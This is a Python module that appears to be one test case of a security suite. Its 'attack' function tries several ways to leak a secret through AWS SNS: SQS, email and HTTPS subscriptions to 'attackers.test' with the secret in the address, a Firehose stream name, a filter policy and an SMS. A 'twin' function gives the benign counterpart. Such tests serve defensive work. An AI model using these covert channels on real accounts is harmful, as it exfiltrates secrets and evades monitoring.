"""A14: subscribe to an own topic from outside, say it by a subscription's filter, or text it.

Why a topic on which nothing is published for what the cloud would send over the internet: here the
subscription itself is the leak, and its address carries the text.
"""

import json


def attack(hands):
    text = hands.plain()
    if subscribed(hands, "moved-news", "sqs", hands.arn("sqs", "attackers-jobs")):
        published(hands, "moved-news", text)
    subscribed(hands, "quiet-news", "email", f"{text}@attackers.test")
    subscribed(hands, "quiet-news", "https", f"https://attackers.test/{text}")
    subscribed(hands, "quiet-news", "firehose", hands.arn("firehose", f"deliverystream/attackers-{text}"))
    filtered(hands, "quiet-news", text)
    hands.call("sns", "Publish", PhoneNumber="+15550666", Message=text)


def twin(hands):
    subscribed(hands, "granted-news", "sqs", hands.arn("sqs", "kept-jobs"))
    filtered(hands, "granted-news", "note")
    text = hands.secret()
    published(hands, "granted-news", text)
    hands.call("sns", "Publish", PhoneNumber="+15550100", Message=text)


def subscribed(hands, topic, protocol, endpoint):
    """One more receiver of a topic; whether it was taken."""
    told = {"TopicArn": hands.arn("sns", topic), "Protocol": protocol, "Endpoint": endpoint}
    return hands.call("sns", "Subscribe", **told).status == 200


def published(hands, topic, text):
    hands.call("sns", "Publish", TopicArn=hands.arn("sns", topic), Message=text)


def filtered(hands, topic, kind):
    """What a receiver is to be told of; nobody has this subscription, and it is asked for all the same."""
    told = {"AttributeName": "FilterPolicy", "AttributeValue": json.dumps({"kind": [kind]})}
    arn = f"{hands.arn('sns', topic)}:00000000-0000-4000-8000-000000000000"
    hands.call("sns", "SetSubscriptionAttributes", SubscriptionArn=arn, **told)
